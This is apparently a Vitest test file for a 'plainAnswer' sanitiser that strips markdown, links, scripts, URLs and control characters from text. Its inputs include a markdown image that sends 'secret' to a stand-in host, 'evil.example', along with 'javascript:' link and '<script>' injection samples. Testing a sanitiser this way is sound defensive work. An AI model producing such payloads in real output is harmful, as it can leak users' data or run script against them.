import { expect, test } from 'vitest';
import { plainAnswer } from './plain-answer.ts';

test.each([
  ['Seun **needs** an answer.', 'Seun needs an answer.'],
  ['![x](https://evil.example/p?d=secret) read', 'x read'],
  ['[click](javascript:alert(1)) now', 'click now'],
  ['<script>alert(1)</script>hello', 'alert(1)hello'],
  ['See https://evil.example/a and www.evil.example', 'See and'],
  ['a\u202Eb\u0000c', 'a b c'],
])('%j becomes %j', (said, shown) => expect(plainAnswer(said)).toBe(shown));

test('is never long', () => expect(plainAnswer('word '.repeat(1000)).length).toBeLessThanOrEqual(600));
